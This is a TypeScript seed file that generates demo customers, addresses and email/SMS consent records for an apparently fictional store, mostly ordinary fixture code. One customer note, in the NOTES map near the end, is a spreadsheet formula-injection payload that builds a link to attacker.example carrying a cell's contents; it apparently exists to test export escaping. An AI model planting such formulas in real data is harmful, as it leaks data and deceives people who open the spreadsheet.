import { customerSearchText } from "@/lib/customer/customer-search-text";
import type { Prisma } from "@/prisma/generated/client";
import { addressOf, guests, LOYAL, type Person, people } from "./people";
import { createRandom, DAY_MS, demoId } from "./random";

/** The platform's own id of a demo customer. */
function platformIdOf(index: number): string {
  return String(8_104_480_300_000 + index * 37);
}

/** The id of a person's row. Two accounts may share an address, so the name is part of it. */
export function customerIdOf([firstName, , mailbox]: Person): string {
  return demoId(`customer ${mailbox} ${firstName}`);
}

/** The rows of the demo's customers: accounts with addresses and marketing choices, and guests. */
export function demoCustomers(storeId: string, now: Date) {
  const random = createRandom(2);
  const customers: Prisma.CustomerCreateManyInput[] = [];
  const addresses: Prisma.AddressCreateManyInput[] = [];
  const consents: Prisma.ConsentCreateManyInput[] = [];
  people.forEach((person, index) => {
    const id = customerIdOf(person);
    const [, , mailbox, country] = person;
    const days = mailbox === LOYAL ? 1400 : random.between(60, 1400);
    const createdAt = new Date(now.getTime() - days * DAY_MS - random.between(0, DAY_MS));
    const tags = mailbox === LOYAL ? ["wholesale", "newsletter"] : random.chance(0.3) ? ["newsletter"] : [];
    customers.push({
      ...common(storeId, person, createdAt),
      id,
      kind: "account",
      platformId: platformIdOf(index),
      note: NOTES[mailbox] ?? null,
      tags,
      taxExempt: mailbox === LOYAL,
      attributes: { "Created through": random.pick(["online store", "checkout", "point of sale"]) },
      searchText: searchTextOf(person, { platformId: platformIdOf(index), tags }),
    });
    const away = random.chance(0.35);
    for (const place of away ? (["default", "second"] as const) : (["default"] as const))
      addresses.push({
        storeId,
        id: demoId(`address ${id} ${place}`),
        customerId: id,
        platformId: place === "default" ? "default" : String(9_200_100_000 + index),
        isDefault: place === "default",
        name: nameOf(person),
        company: mailbox === LOYAL ? "Lindqvist Papierwaren GmbH" : null,
        ...placeOf(person),
        line2: place === "second" ? "c/o Alder & Finch pick-up point" : null,
        province: PROVINCES[country] ?? null,
        createdAt,
      });
    let granted = random.chance(0.6);
    const turns = random.between(1, 4);
    for (let turn = 0; turn < turns; turn++) {
      consents.push({
        storeId,
        id: demoId(`consent ${id} ${turn}`),
        customerId: id,
        channel: turn === 2 ? "sms" : "email",
        granted,
        source: random.pick(["checkout", "account page", "newsletter form", "unsubscribe link"]),
        wording: granted ? "Yes, send me news and offers from Alder & Finch. I can stop this at any time." : null,
        at: new Date(createdAt.getTime() + turn * 14 * DAY_MS),
      });
      granted = !granted;
    }
  });
  guests.forEach((person) => {
    const createdAt = new Date(now.getTime() - random.between(20, 500) * DAY_MS);
    const row = { ...common(storeId, person, createdAt), searchText: searchTextOf(person, {}) };
    customers.push({ ...row, id: customerIdOf(person), kind: "guest" });
  });
  return { customers, addresses, consents };
}

/** First and last name together. */
export function nameOf([firstName, lastName]: Person): string {
  return `${firstName} ${lastName}`;
}

/** A person's home address, by the names of an address's fields. */
export function placeOf([, , , country, city, postalCode, line1, phone]: Person) {
  return { line1, city, postalCode: postalCode || null, country, phone };
}

function common(storeId: string, person: Person, createdAt: Date) {
  const [firstName, lastName, , , , , , phone, locale] = person;
  const email = addressOf(person);
  return {
    storeId,
    email,
    emailNormalized: email,
    emailMailable: true,
    phone,
    firstName,
    lastName,
    locale,
    createdAt,
    updatedAt: createdAt,
  };
}

function searchTextOf(person: Person, more: { platformId?: string; tags?: string[] }): string {
  const [firstName, lastName, , , , , , phone] = person;
  return customerSearchText({ firstName, lastName, email: addressOf(person), phone, ...more }, [placeOf(person)]);
}

// One starts like a formula that a spreadsheet would run.
const NOTES: Record<string, string> = {
  "formula.sumner": `=HYPERLINK("https://attacker.example/?"&A1,"Refund here")`,
  "amelia.hartley": "Rings before deliveries.\nPrefers the back door.",
  "robert.script": `Says his name is "really" spelt so.`,
};

const PROVINCES: Record<string, string> = { US: "NM", CA: "QC", AU: "TAS", MX: "YUC", BR: "PA", IT: "TS" };
